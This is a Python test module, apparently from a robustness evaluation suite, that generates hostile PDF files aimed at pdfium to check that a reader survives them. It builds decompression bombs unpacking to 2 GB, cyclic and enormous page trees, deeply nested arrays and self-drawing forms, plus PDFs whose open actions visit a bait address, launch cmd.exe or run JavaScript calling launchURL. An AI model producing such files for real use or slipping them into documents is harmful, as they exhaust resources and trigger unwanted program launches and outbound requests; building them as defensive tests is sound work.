"""Hostile PDF files, written by hand: pdfium is what they are aimed at."""

import zlib
from collections.abc import Sequence

from evals.chaos.bombs import Bait, Bomb, file

_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {} >>"
_FONT = "/Resources << /Font << /F 5 0 R >> >>"
_HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SAID = b"BT /F 11 Tf 60 700 Td (CPI thang 5/2024 tang 0,05% so voi thang truoc, theo GSO.) Tj ET"


def pdf(objects: Sequence[str | bytes], trailer: str = "") -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its catalogue."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        written = body.encode() if isinstance(body, str) else body
        content += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(places) + 1
    table = f"xref\n0 {size}\n0000000000 65535 f \n{rows}"
    end = f"trailer << /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{len(content)}\n%%EOF"
    return content + f"{table}{end}".encode()


def stream(content: bytes, fields: str = "") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), fields.encode(), content)


def _document(
    catalogue: str = "",
    pages: str = "/Kids [3 0 R] /Count 1",
    page: str = _FONT,
    said: bytes = _SAID,
) -> list[str | bytes]:
    return [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        f"<< /Type /Pages {pages} >>",
        _PAGE.format(page),
        stream(said),
        _HELVETICA,
    ]


def _bomb_stream(layers: int) -> bytes:
    """Return a page whose content unpacks to 2 GB."""
    packing = zlib.compressobj()
    blank = bytes(20_000_000)
    first, again = (packing.compress(blank) + packing.flush(zlib.Z_FULL_FLUSH) for _ in "ab")
    packed = first + again * 99 + packing.compress(_SAID) + packing.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed)
    filters = f"/Filter [{' /FlateDecode' * layers}]"
    return pdf([*_document()[:3], stream(packed, filters), _HELVETICA])


def _form_cycle() -> bytes:
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    page = "/Resources << /XObject << /X 6 0 R >> >>"
    return pdf([*_document(page=page, said=b"/X Do"), stream(b"/X Do /X Do", form)])


def _forms_doubling(depth: int) -> bytes:
    """Return a page whose form draws ten forms, each of which draws ten, and so on."""
    forms = [
        stream(
            b"/X Do " * 10 if level < depth - 1 else b"0 0 m 1 1 l S",
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
            f" /Resources << /XObject << /X {level + 7} 0 R >> >>",
        )
        for level in range(depth)
    ]
    page = "/Resources << /XObject << /X 6 0 R >> >>"
    return pdf([*_document(page=page, said=b"/X Do"), *forms])


def _pages(count: int) -> bytes:
    """Return a PDF whose pages are one page, listed again and again."""
    return pdf(_document(pages=f"/Kids [{'3 0 R ' * count}] /Count {count}"))


def _actions(bait: Bait) -> bytes:
    action = f"<< /S /URI /URI ({bait.address}) >>"
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {action} >>"
    return pdf(_document(f"/OpenAction {action}", page=f"{_FONT} /Annots [{link}]"))


def _launch(bait: Bait) -> bytes:
    action = f"<< /S /Launch /F ({bait.secret}) /Win << /F (cmd.exe) >> >>"
    script = f"<< /S /JavaScript /JS (app.launchURL\\('{bait.address}'\\)) >>"
    return pdf(_document(f"/OpenAction {action} /AA << /WC {script} >>"))


def _outside_stream(bait: Bait) -> bytes:
    """Return a page whose content is said to lie in another file."""
    return pdf([*_document()[:3], stream(b"", f"/F ({bait.secret})"), _HELVETICA])


def _encrypted() -> bytes:
    key = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{0}> /U <{0}> >>".format("ab" * 32)
    return pdf([*_document(), key], "/Encrypt 6 0 R /ID [<00> <00>]")


_CYCLE = "/Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R"
_DEEP = "[" * 100_000 + "]" * 100_000
_WIDE = b"BT /F 11 Tf " + b"(1) Tj 1 0 Td " * 600_000 + b"ET"

PDFS = (
    Bomb(
        name="pdf, pages in a circle", write=file("a.pdf", lambda _: pdf(_document(pages=_CYCLE)))
    ),
    Bomb(
        name="pdf, two billion pages",
        write=file("a.pdf", lambda _: pdf(_document(pages="/Kids [] /Count 2147483647"))),
    ),
    Bomb(name="pdf, a page 200,000 times", write=file("a.pdf", lambda _: _pages(200_000))),
    Bomb(
        name="pdf, arrays 100,000 deep",
        write=file("a.pdf", lambda _: pdf(_document(page=_DEEP))),
        expected="read",
    ),
    Bomb(name="pdf, form draws itself", write=file("a.pdf", lambda _: _form_cycle())),
    Bomb(name="pdf, forms doubling", write=file("a.pdf", lambda _: _forms_doubling(12))),
    Bomb(name="pdf, stream of 2 GB", write=file("a.pdf", lambda _: _bomb_stream(1))),
    Bomb(
        name="pdf, stream of 2 GB packed three times",
        write=file("a.pdf", lambda _: _bomb_stream(3)),
    ),
    Bomb(name="pdf, 600,000 letters", write=file("a.pdf", lambda _: pdf(_document(said=_WIDE)))),
    Bomb(name="pdf, encrypted", write=file("a.pdf", lambda _: _encrypted())),
    Bomb(name="pdf, content elsewhere", write=file("a.pdf", _outside_stream)),
    Bomb(name="pdf, address opened", write=file("a.pdf", _actions), expected="read"),
    Bomb(name="pdf, program launched", write=file("a.pdf", _launch), expected="read"),
)
